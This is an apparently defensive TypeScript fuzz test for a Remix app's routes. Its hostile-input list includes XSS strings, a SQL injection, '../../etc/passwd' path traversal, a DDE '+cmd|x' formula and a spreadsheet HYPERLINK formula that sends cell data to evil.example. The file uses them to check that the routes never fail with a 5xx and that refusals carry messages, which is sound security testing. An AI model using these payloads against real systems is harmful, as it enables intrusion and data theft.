import path from 'node:path'
import fc from 'fast-check'
import { beforeAll, describe, expect, test } from 'vitest'
import { prisma } from '#app/utils/db.server.ts'
import { MATRIX } from '#tests/authorization/matrix.ts'
import { createFixture, type Fixture, type Persona } from '#tests/authorization/personas.ts'
import { callRoute } from '#tests/utils/route.ts'

/**
 * Throws malformed, oversized, wrongly encoded and malicious values at every route's action and
 * loader, as visitors of each kind. No answer may be a 5xx, and every refusal must carry a
 * message (a translation key) or a form result with errors.
 */
const ROUTES_DIR = path.join(process.cwd(), 'app', 'routes')
const FIELD_NAMES = [
	'phone',
	'secret',
	'secretKind',
	'fullName',
	'birthYear',
	'sex',
	'ethnicGroup',
	'learnerGroup',
	'provinceCode',
	'communeCode',
	'village',
	'code',
	'pin',
	'pinAgain',
	'intent',
	'redirectTo',
	'role',
	'assignmentId',
	'everywhere',
	'courseId',
	'lessonId',
	'clientId',
	'answers',
	'q1',
	'q2',
	'residentId',
	'page',
	'query',
	'from',
	'to',
	'value',
	'year',
	'indicator',
	'reason',
	'source',
	'asOf',
	'adultPopulation',
	'place',
	'heldOn',
	'lessonIds',
	'attendeeIds',
	'name',
	'tokenId',
	'jobId',
	'language',
	'dialectNote',
	'section',
	'grant',
	'grantId',
	'recordingId',
]
// Issue #16: what PostgreSQL, spreadsheets and bidi-aware screens choke on. NUL and the other C0 and
// C1 controls, lone surrogates, bidi overrides and isolates, zero-width characters, a BOM, formula starts.
const NASTY_CHARS = [
	'\u0000',
	'\u0001',
	'\u0007',
	'\u0008',
	'\t',
	'\n',
	'\u000B',
	'\u000C',
	'\r',
	'\u001B',
	'\u001F',
	'\u007F',
	'\u0080',
	'\u0085',
	'\u009B',
	'\u009F',
	'\uD800',
	'\uDBFF',
	'\uDC00',
	'\uDFFF',
	'\u202A',
	'\u202B',
	'\u202C',
	'\u202D',
	'\u202E',
	'\u2066',
	'\u2067',
	'\u2068',
	'\u2069',
	'\u200E',
	'\u200F',
	'\u061C',
	'\u200B',
	'\u200C',
	'\u200D',
	'\u2060',
	'\uFEFF',
	'\u00A0',
	'=',
	'+',
	'-',
	'@',
	'%',
	'_',
	'\\',
	"'",
	'"',
	'ạ',
	'Đ',
	'𝓗',
]
const nastyString = fc.string({ unit: fc.oneof(fc.constantFrom(...NASTY_CHARS), fc.string({ minLength: 1, maxLength: 1 })), maxLength: 60 })
const hostile = fc.oneof(
	nastyString,
	fc.constantFrom(
		'a\u0000b',
		'03646\u0000',
		'\u202Eabc\u2066',
		'x\uD800',
		'=HYPERLINK("http://evil.example/?"&A2,"x")',
		'+cmd|x',
		'@SUM(1)',
		'-2+3',
		'\t=1',
		'\r=1',
		'%',
		'_',
		'%_%',
		'é'.repeat(100_000),
		'<script>alert(1)</script>',
		'"><img src=x onerror=alert(1)>',
		"' OR 1=1 --",
		'../../etc/passwd',
		'\u0000',
		'\uFFFD\uD800',
		'0'.repeat(5000),
		'a'.repeat(70_000),
		'99999',
		'00000',
		'-1',
		'1e309',
		'NaN',
		'null',
		'undefined',
		'[]',
		'{}',
		'submit-quiz',
		'choose-province',
		'14',
		'03646',
		'+84',
		'𝓗𝓸𝓬',
		'é'.normalize('NFD'),
		'javascript:alert(1)',
		'//evil.example',
	),
	fc.string({ maxLength: 300 }),
	fc.string({ unit: 'grapheme', maxLength: 100 }),
	fc.integer().map(String),
)
/** Every search parameter a loader reads (grep searchParams in app/). */
const QUERY_KEYS = [
	'province',
	'code',
	'redirectTo',
	'lng',
	'page',
	'q',
	'from',
	'to',
	'village',
	'commune',
	'communes',
	'course',
	'status',
	'group',
	'show',
	'year',
	'granularity',
	'breakdown',
	'format',
]
const formArb = fc.dictionary(fc.oneof(fc.constantFrom(...FIELD_NAMES), fc.string({ maxLength: 20 }), nastyString), hostile, { maxKeys: 12 })

let fixture: Fixture
beforeAll(async () => {
	fixture = await createFixture()
})

const personas: Persona[] = ['anonymous', 'learner', 'staffRight', 'officerRight', 'admin']

async function call(
	module: Record<string, unknown>,
	kind: 'loader' | 'action',
	url: string,
	params: Record<string, string>,
	persona: Persona,
	sent?: BodyInit,
	contentType?: string,
) {
	const cookie = kind === 'action' ? await fixture.freshCookie(persona) : fixture.cookies[persona]
	const { status, response, body } = await callRoute(module, kind, { url, params, cookie, body: sent, contentType, context: { clientIp: '10.9.9.9' } })
	expect(status, `${kind} ${url} as ${persona}`).toBeLessThan(500)
	const refusal = body as { message?: unknown; error?: unknown; result?: unknown } | null
	if (status >= 400 && response?.headers.get('Content-Type')?.includes('json')) {
		expect(refusal!.message ?? refusal!.error ?? refusal!.result, `${url} refused without a message`).toBeTruthy()
	} else if (status >= 400 && !response) {
		// A refusal made with Remix data().
		expect(refusal?.message ?? refusal?.error ?? refusal?.result, `${kind} ${url} as ${persona}: ${status} without a message`).toBeTruthy()
	}
}

describe.each(Object.entries(MATRIX).filter(([, rule]) => rule.action))('%s', (file, rule) => {
	test('random hostile forms never cause a 5xx', async () => {
		const module = await import(/* @vite-ignore */ path.join(ROUTES_DIR, file))
		const users = await prisma.user.count()
		await fc.assert(
			fc.asyncProperty(formArb, fc.constantFrom(...personas), async (form, persona) => {
				await call(module, 'action', rule.url(fixture), rule.params?.(fixture) ?? {}, persona, new URLSearchParams(form), 'application/x-www-form-urlencoded')
			}),
			{ numRuns: 40 },
		)
		// Random input never creates accounts (registration needs every field valid).
		expect(await prisma.user.count()).toBe(users)
	})

	test("the route's valid form with one field made hostile never causes a 5xx", async () => {
		// It reaches further than a random form: past the other fields' checks, into SQL. (It may
		// legitimately register someone when the hostile value lands in a field the route ignores.)
		const module = await import(/* @vite-ignore */ path.join(ROUTES_DIR, file))
		const base = rule.action!.form(fixture)
		const oneBadField = fc.tuple(fc.constantFrom(...Object.keys(base), ...FIELD_NAMES), hostile).map(([key, value]) => ({ ...base, [key]: value }))
		await fc.assert(
			fc.asyncProperty(oneBadField, fc.constantFrom(...personas), async (form, persona) => {
				await call(module, 'action', rule.url(fixture), rule.params?.(fixture) ?? {}, persona, new URLSearchParams(form), 'application/x-www-form-urlencoded')
			}),
			{ numRuns: 25 },
		)
	})

	test('malformed bodies get a 4xx', async () => {
		const module = await import(/* @vite-ignore */ path.join(ROUTES_DIR, file))
		const url = rule.url(fixture)
		const params = rule.params?.(fixture) ?? {}
		for (const persona of personas) {
			await call(module, 'action', url, params, persona, '--broken\r\nnot multipart', 'multipart/form-data; boundary=xyz')
			await call(module, 'action', url, params, persona, '%E0%A4%A=&&==', 'application/x-www-form-urlencoded')
			await call(module, 'action', url, params, persona, 'x'.repeat(200_000), 'application/x-www-form-urlencoded')
		}
	})
})

describe.each(Object.entries(MATRIX))('%s (hostile URLs)', (file, rule) => {
	test('hostile query strings never cause a 5xx', async () => {
		const module = await import(/* @vite-ignore */ path.join(ROUTES_DIR, file))
		if (!module.loader) return
		await fc.assert(
			fc.asyncProperty(fc.dictionary(fc.constantFrom(...QUERY_KEYS), hostile, { maxKeys: 4 }), fc.constantFrom(...personas), async (query, persona) => {
				const url = new URL(rule.url(fixture), 'http://localhost')
				for (const [k, v] of Object.entries(query)) url.searchParams.set(k, v)
				await call(module, 'loader', url.pathname + url.search, rule.params?.(fixture) ?? {}, persona)
			}),
			{ numRuns: 15 },
		)
	})
})
